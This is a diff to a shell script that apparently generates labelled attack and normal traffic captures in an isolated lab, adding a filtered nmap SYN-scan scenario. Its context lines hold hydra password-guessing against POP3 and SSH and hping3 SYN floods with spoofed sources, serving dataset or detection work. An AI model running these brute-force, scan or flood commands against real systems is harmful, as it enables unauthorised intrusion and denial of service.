@@ -175,6 +175,10 @@ normal_pop3() { for i in 1 2 3; do
     in_atk curl -s -o /dev/null "pop3://alice:wonderland-7@$S/$i"
     sleep 1; done; }
 pop3_guess() { in_atk hydra -l alice -P "$WORK/words.txt" -t 4 -W 1 -f "pop3://$S" >/dev/null 2>&1; }
+scan_filtered() {  # the server's answers go nowhere: a host behind a dropping firewall
+    in_srv ip route add blackhole $A/32
+    in_atk nmap -n -Pn -sS -T4 --max-retries 1 -p 1-1000 $S >/dev/null
+    in_srv ip route del blackhole $A/32; }
 ssh_guess() { in_atk hydra -l alice -P "$WORK/words.txt" -t 4 -W 1 -f "ssh://$S" >/dev/null 2>&1; }
 syn_flood() { in_atk hping3 -S --rand-source -p 80 -i u40 -c 20000 $S 2>/dev/null; }
 syn_flood_one_source() { in_atk hping3 -S -p 80 -i u40 -c 5000 $S 2>/dev/null; }
@@ -215,6 +219,7 @@ capture ftp_guess ftp_guess
 capture ssh_guess ssh_guess
 capture telnet_guess telnet_guess
 capture normal_pop3 normal_pop3
+capture scan_filtered scan_filtered
 capture pop3_guess pop3_guess
 capture scan_connect nmap_scan -sT -p 1-1000
 capture scan_fin nmap_scan -sF --top-ports 500
